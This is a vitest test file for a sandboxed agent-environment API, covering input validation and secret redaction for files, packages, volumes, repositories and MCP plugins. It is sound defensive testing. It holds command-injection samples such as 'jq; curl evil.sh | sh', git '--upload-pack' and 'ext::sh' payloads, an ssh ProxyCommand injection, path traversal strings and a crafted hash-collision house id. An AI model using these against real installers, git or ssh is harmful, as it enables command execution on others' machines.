import { describe, expect, it, vi } from "vitest";
import { call, delegateLaunchable, errorCode, houseToken, post, readAll } from "./helpers";
import { sharedTestProvider } from "./register-test-provider";
import { LABEL_RUN } from "../../src/sandbox/provider";
import { env, runInDurableObject } from "cloudflare:test";
import type { HouseActor } from "./test-worker";
import { keptRepositoryUrls, repositoryUrlSecrets, shownRepositoryUrl } from "../../src/workspace/repository-url";


async function createEnv(token: string, body: Record<string, unknown>) {
  const r = await call("/api/environments", { method: "POST", token, json: { name: "ws", provider: "test", model: "local/m", ...body } });
  return { status: r.status, body: (await r.json()) as any };
}

/** Delegates in a thread of the environment and waits for the run's launch entry. */
async function delegateAndLaunch(token: string, environmentId: string, body: Record<string, unknown>) {
  const parent = (await (await call("/api/threads", { method: "POST", token, json: { environmentId } })).json()) as { id: string; houseId: string };
  const { childThreadId, runId } = await delegateLaunchable(token, parent, body);
  const launched = await vi.waitFor(async () => {
    const l = (await readAll(token, childThreadId)).entries.find((e) => e.payload.type === "signal.run.launched");
    expect(l).toBeTruthy();
    return l!;
  }, { timeout: 15_000, interval: 100 });
  return { parentId: parent.id, childThreadId, runId, launched };
}

describe("environment workspace fields", () => {
  it("files: written into the working directory before the harness starts; sensitive content never comes back", async () => {
    const token = await houseToken("house-ws-files");
    const created = await createEnv(token, {
      files: [{ path: "notes/README.md", content: "# plan\n" }, { path: ".env.local", content: "API_TOKEN=s3cr3t-value", sensitive: true }],
      permissionMode: "plan",
    });
    expect(created.status).toBe(201);
    expect(created.body.files).toEqual([{ path: "notes/README.md", content: "# plan\n", sensitive: false }, { path: ".env.local", sensitive: true }]);
    for (const r of [await call(`/api/environments/${created.body.id}`, { token }), await call("/api/environments", { token })]) {
      expect(await r.text()).not.toContain("s3cr3t-value");
    }

    // A delegated run gets them, with its permission mode mapped onto pi's tools.
    const { childThreadId, runId, launched } = await delegateAndLaunch(token, created.body.id, { task: "look around" });
    expect(launched.payload).toMatchObject({ permissionMode: "plan", files: ["notes/README.md", ".env.local"] });
    expect(JSON.stringify((await readAll(token, childThreadId)).entries)).not.toContain("s3cr3t-value");
    const provider = sharedTestProvider();
    const [box] = await provider.list({ [LABEL_RUN]: runId });
    const files = provider.boxes.get(box.ref)!.files;
    expect(new TextDecoder().decode(files.get("work/notes/README.md"))).toBe("# plan\n");
    expect(new TextDecoder().decode(files.get("work/.env.local"))).toBe("API_TOKEN=s3cr3t-value");
    const start = provider.calls.find((c) => c.op === "startDetached" && c.ref === box.ref)!;
    expect(JSON.stringify(start.args)).toContain("--tools 'read,grep,find,ls'");
    expect(JSON.stringify(start.args)).toContain("--permission-mode 'plan'");
  });

  it("packages: checked on the box before the harness starts; the launch entry lists the ones it installed; bad names are a 400", async () => {
    const token = await houseToken("house-ws-packages");
    expect((await createEnv(token, { packages: { apt: ["jq; curl evil.sh | sh"] } })).status).toBe(400);
    expect((await createEnv(token, { packages: { brew: ["jq"] } })).status).toBe(400);
    const created = await createEnv(token, { packages: { apt: ["jq"], npm: ["typescript@5.6.3"] } });
    expect(created.status).toBe(201);
    expect(created.body.packages).toEqual({ apt: ["jq"], npm: ["typescript@5.6.3"] });
    const provider = sharedTestProvider();
    const before = provider.execHandler;
    // The box has jq already and lacks typescript: only the npm step installs something.
    provider.execHandler = (_b, command) => ({ exitCode: 0, output: command.includes("npm install -g") ? "added 1 package\nnpm:typescript@5.6.3\n" : "" });
    try {
      const { childThreadId, runId, launched } = await delegateAndLaunch(token, created.body.id, { task: "build" });
      expect(launched.payload.packagesInstalled).toEqual(["npm:typescript@5.6.3"]);
      expect(launched.payload.packagesPresent).toEqual(["apt:jq"]);
      const [box] = await provider.list({ [LABEL_RUN]: runId });
      const calls = provider.calls.filter((c) => c.ref === box.ref);
      const installAt = calls.findIndex((c) => c.op === "exec" && JSON.stringify(c.args).includes("dpkg -s jq"));
      const startAt = calls.findIndex((c) => c.op === "startDetached");
      expect(installAt).toBeGreaterThanOrEqual(0);
      expect(installAt).toBeLessThan(startAt);
    } finally {
      provider.execHandler = before;
    }
  });

  it("a delegate's permission mode and tools win over the environment's", async () => {
    const token = await houseToken("house-ws-override");
    const created = await createEnv(token, { permissionMode: "plan", allowedTools: ["read"] });
    const { parentId, launched } = await delegateAndLaunch(token, created.body.id, { task: "edit", permissionMode: "acceptEdits", allowedTools: ["read", "edit"] });
    expect(launched.payload).toMatchObject({ permissionMode: "acceptEdits", allowedTools: ["read", "edit"] });
    const bad = await call(`/api/threads/${parentId}/delegate`, { method: "POST", token, json: { task: "x", permissionMode: "yolo" } });
    expect(bad.status).toBe(400);
  });

  it("plan is read-only for pi whatever tool list applies: a delegate's plan over an environment's tools gets only their read-only ones, and the launch says so", async () => {
    const token = await houseToken("house-ws-plan-narrows");
    const created = await createEnv(token, { allowedTools: ["read", "bash", "edit", "write", "ls"] });
    const { runId, launched } = await delegateAndLaunch(token, created.body.id, { task: "review only", permissionMode: "plan" });
    const start = sharedTestProvider().calls.find((c) => c.op === "startDetached" && JSON.stringify(c).includes(runId))!;
    expect(JSON.stringify(start.args)).toContain("--tools 'read,ls'");
    expect(launched.payload).toMatchObject({ permissionMode: "plan", allowedTools: ["read", "ls"] });
  });

  it("a resume keeps what its run chose over the environment: model, permission mode, tools (a read-only child stays read-only)", async () => {
    const token = await houseToken("house-ws-resume-keeps");
    const created = await createEnv(token, {});
    const chosen = { permissionMode: "plan", allowedTools: ["read", "ls"], model: "local/chosen" };
    const { childThreadId, runId } = await delegateAndLaunch(token, created.body.id, { task: "look", ...chosen });
    expect((await post(token, childThreadId, { payload: { type: "signal.thread.status_changed", status: "completed", runId } })).status).toBe(201);
    const resumed = await call(`/api/threads/${childThreadId}/resume`, { method: "POST", token, json: { message: "go on" } });
    expect(resumed.status).toBe(202);
    const next = ((await resumed.json()) as { runId: string }).runId;
    const launched = await vi.waitFor(async () => {
      const l = (await readAll(token, childThreadId)).entries.find((e) => e.id === `launched:${next}`);
      expect(l).toBeTruthy();
      return l!;
    }, { timeout: 15_000, interval: 100 });
    expect(launched.payload).toMatchObject({ permissionMode: "plan", allowedTools: ["read", "ls"] });
    const started = sharedTestProvider().calls.find((c) => c.op === "startDetached" && JSON.stringify(c).includes(next));
    expect(JSON.stringify(started)).toContain("--model 'local/chosen'");
    // A model given with the resume is this run's.
    expect((await post(token, childThreadId, { payload: { type: "signal.thread.status_changed", status: "completed", runId: next } })).status).toBe(201);
    const third = ((await (await call(`/api/threads/${childThreadId}/resume`, { method: "POST", token, json: { message: "more", model: "local/third" } })).json()) as { runId: string }).runId;
    await vi.waitFor(() => {
      const c = sharedTestProvider().calls.find((x) => x.op === "startDetached" && JSON.stringify(x).includes(third));
      expect(JSON.stringify(c)).toContain("--model 'local/third'");
    }, { timeout: 15_000, interval: 100 });
  });

  it("refuses bad files and box modes; boxMode shared implies the shared box", async () => {
    const token = await houseToken("house-ws-bad");
    for (const files of [
      [{ path: "/etc/passwd", content: "x" }],
      [{ path: "../up.txt", content: "x" }],
      [{ path: "a//b", content: "x" }],
      [{ path: "a.txt", content: "x" }, { path: "a.txt", content: "y" }],
      [{ path: "big.bin", content: "x".repeat(512 * 1024 + 1) }],
      [{ path: "a.txt", content: "x", mode: "0600" }],
    ]) {
      const r = await createEnv(token, { files });
      expect(r.status, JSON.stringify(files).slice(0, 80)).toBe(400);
      expect(r.body.error.code).toBe("validation_failed");
    }
    expect((await createEnv(token, { boxMode: "always" })).status).toBe(400);
    const shared = await createEnv(token, { boxMode: "shared" });
    expect([shared.body.boxMode, shared.body.sharedBox]).toEqual(["shared", true]);
    // `sharedBox: true` alone keeps its meaning: a box for run_command, a box per run.
    const legacy = await createEnv(token, { sharedBox: true });
    expect([legacy.body.boxMode, legacy.body.sharedBox]).toEqual(["ephemeral", true]);
    expect((await createEnv(token, {})).body).toMatchObject({ boxMode: "ephemeral", sharedBox: false });
  });

  it("volumes: validated, and named per house at the provider so two houses' `memory` are two volumes", async () => {
    const token = await houseToken("house-ws-vol");
    for (const volumes of [[{ name: "Bad_Name", path: "m" }], [{ name: "m", path: "/etc/m" }], [{ name: "m", path: "../m" }], [{ name: "m", path: "a" }, { name: "m", path: "b" }], [{ name: "a", path: "m" }, { name: "b", path: "m" }]]) {
      expect((await createEnv(token, { volumes })).status, JSON.stringify(volumes)).toBe(400);
    }
    // Not over HOME (every box would share one home), threadbox's own files, or the working
    // directory each launch clears (a clone's or a folder's rm -rf would empty the volume).
    for (const path of [".", "./", "/home/daytona/", "/home/daytona/.", "~/m", "a/../..", "work", "work/", "./work/memory", "/home/daytona/work/x", ".threadbox", ".threadbox/runs"]) {
      const r = await createEnv(token, { volumes: [{ name: "m", path }] });
      expect([path, r.status]).toEqual([path, 400]);
      expect(JSON.stringify(r.body)).toContain("volumes.0.path");
    }
    expect((await createEnv(token, { volumes: [{ name: "a", path: "memory" }, { name: "b", path: "/home/daytona/memory" }] })).status).toBe(400);
    // Codex's config directory gets the MCP servers' secrets written in by each launch: a volume there would keep them past the box.
    for (const path of [".codex", "./.codex/", "/home/daytona/.codex"]) {
      const r = await createEnv(token, { volumes: [{ name: "m", path }] });
      expect([path, r.status]).toEqual([path, 400]);
      expect(r.body.error.details).toEqual([{ path: "volumes.0.path", message: "not at .codex/ (a launch writes Codex's config.toml there with the MCP servers' secrets filled in; a volume would keep them)" }]);
    }
    // Other spellings of a directory below HOME are that directory.
    for (const path of ["memory/", "./memory", "notes//memory"]) expect([path, (await createEnv(token, { volumes: [{ name: "m", path }] })).status]).toEqual([path, 201]);
    expect((await createEnv(token, { volumes: [{ name: "a", path: "memory/" }, { name: "b", path: "./memory" }] })).status).toBe(400);
    // A volume inside another's path: mounting it replaced what the outer volume held there.
    for (const volumes of [
      [{ name: "a", path: "vx" }, { name: "b", path: "vx/y" }],
      [{ name: "b", path: "/home/daytona/vx/y" }, { name: "a", path: "./vx/" }],
    ]) {
      const r = await createEnv(token, { volumes });
      expect(r.status, JSON.stringify(volumes)).toBe(400);
      expect(JSON.stringify(r.body.error.details)).toContain("volume b at vx/y lies inside volume a at vx");
    }
    expect((await createEnv(token, { volumes: [{ name: "a", path: "vx" }, { name: "b", path: "vxy" }] })).status).toBe(201);
    expect((await createEnv(token, { volumes: [{ name: "m", path: "/home/daytona/notes/memory" }] })).status).toBe(201);
    const created = await createEnv(token, { volumes: [{ name: "memory", path: "memory" }], sharedBox: true });
    expect(created.body.volumes).toEqual([{ name: "memory", path: "memory" }]);
    await call(`/api/environments/${created.body.id}/exec`, { method: "POST", token, json: { command: "true" } });
    const other = await houseToken("house-ws-vol-2");
    const theirs = await createEnv(other, { volumes: [{ name: "memory", path: "memory" }], sharedBox: true });
    await call(`/api/environments/${theirs.body.id}/exec`, { method: "POST", token: other, json: { command: "true" } });
    const creates = sharedTestProvider().calls.filter((c) => c.op === "create" && /house-ws-vol/.test(JSON.stringify(c.args)));
    const names = creates.map((c) => (c.args as { volumes?: { name: string; mountPath: string }[] }).volumes?.[0]);
    expect(names).toHaveLength(2);
    expect(names[0]!.mountPath).toBe("/home/daytona/memory");
    expect(names[0]!.name).not.toBe(names[1]!.name);
    // A house id the name can hold as it is keeps the name it always had: its volume's data stays where it was.
    expect(names.map((n) => n!.name)).toContain("tb-house-ws-vol-9bd7b7ec-memory");
  });

  it("volumes: a house id chosen to give another house's volume name (same readable part, same 32-bit hash) gets a volume of its own", async () => {
    // Found by brute force in about a second: both ids read as acme-corporation-engineering-department-
    // in the name (lower case, first 40 characters), and FNV-1a gives both e1c4a9e4.
    const [victim, attacker] = ["acme-corporation-engineering-department-42", "ACME-corporation-engineering-department-CMTztD"];
    for (const house of [victim, attacker]) {
      const token = await houseToken(house);
      const e = await createEnv(token, { volumes: [{ name: "memory", path: "memory" }], sharedBox: true });
      expect(e.status).toBe(201);
      expect((await call(`/api/environments/${e.body.id}/exec`, { method: "POST", token, json: { command: "true" } })).status).toBe(200);
    }
    const volumeOf = (house: string) => sharedTestProvider().calls
      .filter((c) => c.op === "create" && JSON.stringify(c.args).includes(JSON.stringify(house)))
      .map((c) => (c.args as { volumes?: { name: string }[] }).volumes?.[0]?.name);
    const [mine, theirs] = [volumeOf(victim), volumeOf(attacker)];
    expect([mine.length, theirs.length]).toEqual([1, 1]);
    expect(theirs[0]).not.toBe(mine[0]);
  });

  it("repositories: each cloned into the working directory, credentials from a named secret that no entry ever shows", async () => {
    const token = await houseToken("house-ws-repos");
    for (const repositories of [
      [{ url: "https://user:pw@git.example/a.git" }],
      [{ url: "https://ghp-token@git.example/a.git" }],
      [{ url: "ssh://git:pw@git.example/a.git" }],
      [{ url: "ext::sh -c touch% /tmp/pwned" }],
      // Git cannot clone through a query string, and a token in one would be shown wherever the URL is.
      [{ url: "https://git.example/a.git?private_token=glpat-secret" }],
      [{ url: "https://git.example/a.git#glpat-secret" }],
      [{ url: "https://git.example/a.git", credentialsSecret: "MISSING" }],
      // A user name without a secret would be dropped: the clone would go without credentials.
      [{ url: "https://git.example/a.git", credentialsUsername: "bot" }],
      [{ url: "https://git.example/a.git" }, { url: "https://other.example/a" }],
      [{ url: "not a url" }],
      // A ref is a commit id, a branch or a tag: one git would read as an option is none.
      [{ url: "https://git.example/a.git", ref: "--upload-pack=touch /tmp/pwned" }],
      [{ url: "https://git.example/a.git", ref: "v1 2" }],
      // A shared box fetches `origin <branch>`: git would read this one as an option and run the command.
      [{ url: "https://git.example/a.git", branch: "--upload-pack=touch /tmp/pwned" }],
      [{ url: "https://git.example/a.git", branch: "has space" }],
      // Named after the URL's last segment when no path is given: `..` would be HOME, `.` the working directory.
      [{ url: "https://git.example/...git" }],
      [{ url: "https://git.example/.." }],
      [{ url: "https://git.example/..git" }],
    ]) {
      const r = await createEnv(token, { repositories, secrets: { GIT_TOKEN: "ghp-secret-token-1" } });
      expect(r.status, JSON.stringify(repositories)).toBe(400);
    }
    const created = await createEnv(token, {
      secrets: { GIT_TOKEN: "ghp-secret-token-1" },
      repositories: [
        { url: "https://git.example/org/app.git", branch: "release/v1.2_rc-1", credentialsSecret: "GIT_TOKEN" },
        { url: "file:///srv/libs/shared", path: "libs/shared", ref: "abc1234", depth: 1 },
        { url: "https://git.example/org/docs.git", ref: "v2.1.0", depth: 1 },
      ],
    });
    expect(created.status).toBe(201);
    expect(JSON.stringify(created.body)).not.toContain("ghp-secret-token-1");
    const { childThreadId, runId, launched } = await delegateAndLaunch(token, created.body.id, { task: "build both" });
    expect(launched.payload.repositories).toEqual([
      { url: "https://git.example/org/app.git", path: "app", branch: "release/v1.2_rc-1" },
      { url: "file:///srv/libs/shared", path: "libs/shared", ref: "abc1234" },
      { url: "https://git.example/org/docs.git", path: "docs", ref: "v2.1.0" },
    ]);
    const provider = sharedTestProvider();
    const [box] = await provider.list({ [LABEL_RUN]: runId });
    const clones = provider.calls.filter((c) => c.op === "clone" && c.ref === box.ref).map((c) => c.args as Record<string, unknown>);
    expect(clones).toEqual([
      expect.objectContaining({ url: "https://git.example/org/app.git", path: "work/app", branch: "release/v1.2_rc-1", username: "x-access-token", password: "ghp-secret-token-1" }),
      expect.objectContaining({ url: "file:///srv/libs/shared", path: "work/libs/shared", commit: "abc1234", depth: 1 }),
      expect.objectContaining({ url: "https://git.example/org/docs.git", path: "work/docs", commit: "v2.1.0", depth: 1 }),
    ]);
    expect(clones[1].password).toBeUndefined();
    // An ssh URL names the account its key logs in as: no secret, and what ssh URLs of most hosts carry.
    expect((await createEnv(token, { repositories: [{ url: "ssh://git@git.example/org/app.git" }] })).status).toBe(201);
    // A user or host that ssh would read as an option is not.
    for (const url of ["ssh://-oProxyCommand=touch%20pwned@git.example/a.git", "ssh://-oProxyCommand=x/a.git"]) {
      expect([url, (await createEnv(token, { repositories: [{ url }] })).status]).toEqual([url, 400]);
    }
    expect(JSON.stringify((await readAll(token, childThreadId)).entries)).not.toContain("ghp-secret-token-1");
  });

  it("a delegate's repo, branch and depth: the box makes a clone that deep of that branch; depth without repo is a 400 at depth", async () => {
    const token = await houseToken("house-ws-delegate-depth");
    const created = await createEnv(token, {});
    const { runId } = await delegateAndLaunch(token, created.body.id, { task: "look", repo: "https://git.example/org/app.git", branch: "dev", depth: 1 });
    const provider = sharedTestProvider();
    const [box] = await provider.list({ [LABEL_RUN]: runId });
    const clones = provider.calls.filter((c) => c.op === "clone" && c.ref === box.ref).map((c) => c.args as Record<string, unknown>);
    expect(clones).toEqual([expect.objectContaining({ url: "https://git.example/org/app.git", branch: "dev", depth: 1 })]);

    const parent = (await (await call("/api/threads", { method: "POST", token, json: { environmentId: created.body.id } })).json()) as { id: string };
    const r = await call(`/api/threads/${parent.id}/delegate`, { method: "POST", token, json: { task: "look", depth: 1 } });
    expect(r.status).toBe(400);
    expect(((await r.json()) as { error: { details: { path: string; message: string }[] } }).error.details).toEqual([{ path: "depth", message: expect.stringContaining("depth needs repo") }]);
  });

  it("repositories: a URL stored with credentials before they were refused is cloned as stored, and shown nowhere with them", async () => {
    const houseId = "house-ws-stored-url";
    const token = await houseToken(houseId);
    const created = await createEnv(token, { repositories: [{ url: "https://git.example/org/app.git" }, { url: "ssh://git@git.example/org/lib.git", path: "lib" }] });
    expect(created.status).toBe(201);
    const password = "pw-Zx81kq3Hn";
    const token2 = "glpat-Q7zK9mV2rT8nB4";
    const stored = [
      { url: `https://deploy:${password}@git.example/org/app.git?private_token=${token2}` },
      { url: `ssh://git:${password}@git.example/org/lib.git`, path: "lib" },
    ];
    // As an older version stored it: the validation of today is not asked.
    const houses = (env as unknown as { HOUSES: DurableObjectNamespace<HouseActor> }).HOUSES;
    await runInDurableObject(houses.get(houses.idFromName(houseId)), (_h: HouseActor, state: DurableObjectState) => {
      state.storage.sql.exec(`update environments set body = json_set(body, '$.repositories', json(?)) where id = ?`, JSON.stringify(stored), created.body.id);
    });
    const shown = [
      { url: "https://[redacted]:[redacted]@git.example/org/app.git?private_token=[redacted]" },
      { url: "ssh://git:[redacted]@git.example/org/lib.git", path: "lib" },
    ];
    const one = await call(`/api/environments/${created.body.id}`, { token });
    expect(((await one.json()) as { repositories: unknown }).repositories).toEqual(shown);
    const listed = (await (await call("/api/environments", { token })).json()) as { environments: { id: string; repositories: unknown }[] };
    expect(listed.environments.find((e) => e.id === created.body.id)?.repositories).toEqual(shown);

    const logged = [vi.spyOn(console, "log"), vi.spyOn(console, "warn"), vi.spyOn(console, "error")];
    try {
      const { childThreadId, runId, launched } = await delegateAndLaunch(token, created.body.id, { task: "build" });
      expect(launched.payload.repositories).toEqual([{ url: shown[0].url, path: "app" }, { url: shown[1].url, path: "lib" }]);
      // The box clones with the URL as stored.
      const provider = sharedTestProvider();
      const [box] = await provider.list({ [LABEL_RUN]: runId });
      expect(provider.calls.filter((c) => c.op === "clone" && c.ref === box.ref).map((c) => (c.args as { url: string }).url)).toEqual(stored.map((r) => r.url));
      expect(JSON.stringify((await readAll(token, childThreadId)).entries)).not.toMatch(new RegExp(`${password}|${token2}`));

      // git quotes the URL it could not clone from.
      provider.failOn("clone", houseId, `clone ${stored[0].url}: fatal: repository '${stored[0].url}/' not found`);
      const failed = await delegateLaunchable(token, { id: (await (await call("/api/threads", { method: "POST", token, json: { environmentId: created.body.id } })).json() as { id: string }).id, houseId }, { task: "again" });
      const row = await vi.waitFor(async () => {
        const t = (await (await call(`/api/threads/${failed.childThreadId}`, { token })).json()) as { status: string; detail: string };
        expect(t.status).toBe("failed");
        return t;
      }, { timeout: 15_000, interval: 100 });
      expect(row.detail).toContain("fatal: repository 'https://[redacted]:[redacted]@git.example/org/app.git?private_token=[redacted]/' not found");
      expect(JSON.stringify((await readAll(token, failed.childThreadId)).entries)).not.toMatch(new RegExp(`${password}|${token2}`));
      const lines = logged.flatMap((s) => s.mock.calls.map((c) => c.map(String).join(" ")));
      expect(lines.some((l) => l.includes("launch_failed"))).toBe(true);
      expect(lines.filter((l) => l.includes(password) || l.includes(token2))).toEqual([]);
    } finally {
      for (const s of logged) s.mockRestore();
    }
  }, 60_000);

  it("repositories: a list sent back as GET shows it keeps a URL stored with credentials; any other redacted or credentialed URL is a 400", async () => {
    const houseId = "house-ws-stored-url-patch";
    const token = await houseToken(houseId);
    const created = await createEnv(token, { repositories: [{ url: "https://git.example/org/app.git" }, { url: "https://git.example/org/doc.git", path: "doc" }] });
    expect(created.status).toBe(201);
    const storedUrl = "https://deploy:pw-Hq7Lm2@git.example/org/app.git?private_token=glpat-Wc4Rt9";
    const houses = (env as unknown as { HOUSES: DurableObjectNamespace<HouseActor> }).HOUSES;
    const house = houses.get(houses.idFromName(houseId));
    // As an older version stored it: the validation of today is not asked.
    await runInDurableObject(house, (_h: HouseActor, state: DurableObjectState) => {
      state.storage.sql.exec(`update environments set body = json_set(body, '$.repositories[0].url', ?) where id = ?`, storedUrl, created.body.id);
    });
    const storedRepositories = () => runInDurableObject(house, (_h: HouseActor, state: DurableObjectState) =>
      JSON.parse(state.storage.sql.exec<{ r: string }>(`select json_extract(body, '$.repositories') as r from environments where id = ?`, created.body.id).one().r) as { url: string }[]);
    const shown = ((await (await call(`/api/environments/${created.body.id}`, { token })).json()) as { repositories: { url: string; path?: string }[] }).repositories;
    expect(shown[0].url).toBe("https://[redacted]:[redacted]@git.example/org/app.git?private_token=[redacted]");

    // GET, change a field, send the list back: the stored URL stays, still shown redacted.
    const patched = await call(`/api/environments/${created.body.id}`, { method: "PATCH", token, json: { name: "renamed", repositories: [{ ...shown[0], branch: "main" }, shown[1]] } });
    expect(patched.status).toBe(200);
    const body = (await patched.json()) as { name: string; repositories: unknown };
    expect(body).toMatchObject({ name: "renamed", repositories: [{ url: shown[0].url, branch: "main" }, shown[1]] });
    expect(JSON.stringify(body)).not.toMatch(/pw-Hq7Lm2|glpat-Wc4Rt9/);
    expect((await storedRepositories()).map((r) => r.url)).toEqual([storedUrl, "https://git.example/org/doc.git"]);
    // Moved to another place in the list, it is still the one stored URL shown that way.
    expect((await call(`/api/environments/${created.body.id}`, { method: "PATCH", token, json: { repositories: [shown[1], shown[0]] } })).status).toBe(200);
    expect((await storedRepositories()).map((r) => r.url)).toEqual(["https://git.example/org/doc.git", storedUrl]);

    // Only what GET shows for a stored URL stands for it.
    for (const url of [
      "https://[redacted]:[redacted]@git.example/org/other.git?private_token=[redacted]",
      "https://[redacted]@git.example/org/app.git?private_token=[redacted]",
      "https://deploy:guess@git.example/org/app.git",
    ]) {
      const r = await call(`/api/environments/${created.body.id}`, { method: "PATCH", token, json: { repositories: [{ url }] } });
      expect([url, r.status, await errorCode(r)]).toEqual([url, 400, "validation_failed"]);
    }
    expect((await storedRepositories()).map((r) => r.url)).toEqual(["https://git.example/org/doc.git", storedUrl]);
  });

  it("repositories: one inside another's path is a 400, in either order (the outer's clone would remove the inner, or take it into its tree)", async () => {
    const token = await houseToken("house-ws-repos-nested");
    for (const repositories of [
      [{ url: "https://git.example/app.git", path: "app" }, { url: "https://git.example/lib.git", path: "app/vendor/lib" }],
      [{ url: "https://git.example/lib.git", path: "app/lib" }, { url: "https://git.example/app.git" }],
    ]) {
      const r = await createEnv(token, { repositories });
      expect(r.status, JSON.stringify(repositories)).toBe(400);
      expect(r.body.error.details).toEqual([expect.objectContaining({ message: expect.stringMatching(/^repository app\/(vendor\/)?lib lies inside repository app: give repositories paths side by side$/) })]);
    }
    const created = await createEnv(token, { repositories: [{ url: "https://git.example/app.git" }, { url: "https://git.example/lib.git", path: "apps/lib" }] });
    expect(created.status).toBe(201);
    const patched = await call(`/api/environments/${created.body.id}`, { method: "PATCH", token, json: { repositories: [{ url: "https://git.example/app.git" }, { url: "https://git.example/lib.git", path: "app/lib" }] } });
    expect(patched.status).toBe(400);
  });

  it("files: a file at or around another file's, a folder's or (with several repositories) a checkout's directory is a 400, not a launch that fails uploading it", async () => {
    const token = await houseToken("house-ws-files-clash");
    const repositories = [{ url: "https://git.example/app.git" }, { url: "https://git.example/lib.git", path: "libs/lib" }];
    for (const [body, message] of [
      [{ files: [{ path: "conf", content: "x" }, { path: "conf/a.json", content: "{}" }] }, "file conf is also the directory of file conf/a.json"],
      [{ files: [{ path: "data", content: "x" }], folders: [{ source: "data", path: "data" }] }, "file data would replace the directory of folder data: files may go inside it, not at or around it"],
      [{ files: [{ path: "data", content: "x" }], folders: [{ source: "d", path: "data/in" }] }, "file data would replace the directory of folder data/in: files may go inside it, not at or around it"],
      [{ files: [{ path: "app", content: "x" }], repositories }, "file app would replace the directory of repository app: files may go inside it, not at or around it"],
      [{ files: [{ path: "libs", content: "x", sensitive: true }], repositories }, "file libs would replace the directory of repository libs/lib: files may go inside it, not at or around it"],
    ] as const) {
      const r = await createEnv(token, body);
      expect(r.status, JSON.stringify(body)).toBe(400);
      expect(r.body.error.details.map((d: { message: string }) => d.message)).toEqual([message]);
    }
    // Inside a folder or a checkout is where such files belong.
    const ok = await createEnv(token, { files: [{ path: "data/extra.txt", content: "x" }, { path: "app/.env", content: "y" }], folders: [{ source: "data", path: "data" }], repositories });
    expect(ok.status).toBe(201);
    // One repository is the working directory itself: a file named like it is a file in its checkout.
    expect((await createEnv(token, { files: [{ path: "app", content: "x" }], repositories: [repositories[0]] })).status).toBe(201);
    const patched = await call(`/api/environments/${ok.body.id}`, { method: "PATCH", token, json: { files: [{ path: "data", content: "x" }] } });
    expect(patched.status).toBe(400);
  });

  it("files: a path under ~ is a 400 saying paths are relative to the working directory, not written to work/~/", async () => {
    const token = await houseToken("house-ws-files-tilde");
    for (const path of ["~/.bashrc", "~", "~/a/b.txt"]) {
      const r = await createEnv(token, { files: [{ path, content: "x" }] });
      expect(r.status, path).toBe(400);
      expect(r.body.error.details.map((d: { message: string }) => d.message), path).toEqual(["a path relative to the working directory (work/): ~ is not the home directory here"]);
    }
    // A tilde elsewhere in a name is a plain character.
    expect((await createEnv(token, { files: [{ path: "notes/~draft.txt", content: "x" }, { path: "a~b", content: "y" }] })).status).toBe(201);
  });

  it("plugins: pi skills and extensions go to pi's agent directory; MCP servers to Claude Code's .mcp.json with secrets filled in the box only", async () => {
    const token = await houseToken("house-ws-plugins");
    for (const plugins of [
      { skills: [{ name: "Bad Name", description: "d", instructions: "i" }] },
      { skills: [{ name: "a", description: "", instructions: "i" }] },
      { extensions: [{ name: "x", source: "" }] },
      { mcpServers: { docs: { url: "not-a-url" } } },
      { mcpServers: { docs: { url: "ftp://docs.example/mcp" } } },
      { mcpServers: { docs: { url: "file:///etc/passwd" } } },
      { skills: [{ name: "a", description: "d", instructions: "i" }, { name: "a", description: "d", instructions: "j" }] },
    ]) {
      expect((await createEnv(token, { plugins })).status, JSON.stringify(plugins)).toBe(400);
    }
    // A server of neither form is told both forms (naming the fields sent, never their values), not zod's "Invalid input".
    const neither = await createEnv(token, { plugins: { mcpServers: { docs: { cmd: "docs-mcp", env: { API_KEY: "sk-not-echoed" } } } } });
    expect([neither.status, neither.body.error.code, neither.body.error.details]).toEqual([400, "validation_failed", [{
      path: "plugins.mcpServers.docs",
      message: 'an MCP server is {"command": "...", "args"?: [...], "env"?: {...}} (run in the box) or {"url": "https://...", "type"?: "http" | "sse"}; got an object of cmd, env',
    }]]);
    // A key that is not a name says what a name is (not zod's "Invalid key in record").
    for (const [body, path, message] of [
      [{ env: { "1BAD": "x" } }, "env.1BAD", "env var names are [A-Za-z_][A-Za-z0-9_]*"],
      [{ secrets: { "a-b": "xxxxxxxx" } }, "secrets.a-b", "env var names are [A-Za-z_][A-Za-z0-9_]*"],
      [{ plugins: { mcpServers: { "no spaces": { url: "https://docs.example/mcp" } } } }, "plugins.mcpServers.no spaces", "an MCP server's name is 1-64 characters of [A-Za-z0-9_-]"],
      [{ repositories: [{ url: "https://git.example/app.git", credentialsSecret: "GIT-TOKEN" }] }, "repositories.0.credentialsSecret", "credentialsSecret names one of the environment's secrets ([A-Za-z_][A-Za-z0-9_]*)"],
    ] as const) {
      expect((await createEnv(token, body)).body, path).toMatchObject({ error: { details: [{ path, message }] } });
    }
    const created = await createEnv(token, {
      harness: "claude-code",
      secrets: { DOCS_KEY: "docs-secret-value" },
      plugins: {
        skills: [{ name: "release-notes", description: "Write release notes from the git log.", instructions: "Read git log, group by type." }],
        mcpServers: { docs: { command: "docs-mcp", args: ["--stdio"], env: { API_KEY: "$DOCS_KEY" } } },
      },
    });
    expect(created.status).toBe(201);
    expect(JSON.stringify(created.body)).not.toContain("docs-secret-value");
    const { childThreadId, runId, launched } = await delegateAndLaunch(token, created.body.id, { task: "notes", harness: "claude-code", model: "claude-x" });
    expect(launched.payload.plugins).toEqual({ skills: ["release-notes"], extensions: [], mcpServers: ["docs"] });
    const provider = sharedTestProvider();
    const [box] = await provider.list({ [LABEL_RUN]: runId });
    const mcp = JSON.parse(new TextDecoder().decode(provider.boxes.get(box.ref)!.files.get("work/.mcp.json")));
    expect(mcp).toEqual({ mcpServers: { docs: { command: "docs-mcp", args: ["--stdio"], env: { API_KEY: "docs-secret-value" } } } });
    expect(JSON.stringify((await readAll(token, childThreadId)).entries)).not.toContain("docs-secret-value");
    // `$NAME` of a secret the environment lacks would reach the server as that text: a 400 on create, and on the PATCH that removes it.
    const missing = await createEnv(token, { plugins: { mcpServers: { docs: { command: "docs-mcp", env: { API_KEY: "$DOCS_KEY" } } } } });
    expect(missing.status).toBe(400);
    expect(missing.body.error.details).toEqual([{ path: "plugins.mcpServers.docs.env.API_KEY", message: "no secret named DOCS_KEY in this environment" }]);
    expect((await call(`/api/environments/${created.body.id}`, { method: "PATCH", token, json: { secrets: { DOCS_KEY: null } } })).status).toBe(400);
  });

  it("egress: open, deny or an allow-list, always with the thread stream; bad hosts are refused", async () => {
    const token = await houseToken("house-ws-egress");
    // No such port: the local host's bridge for it failed in every command of the box, with a stack trace in its output.
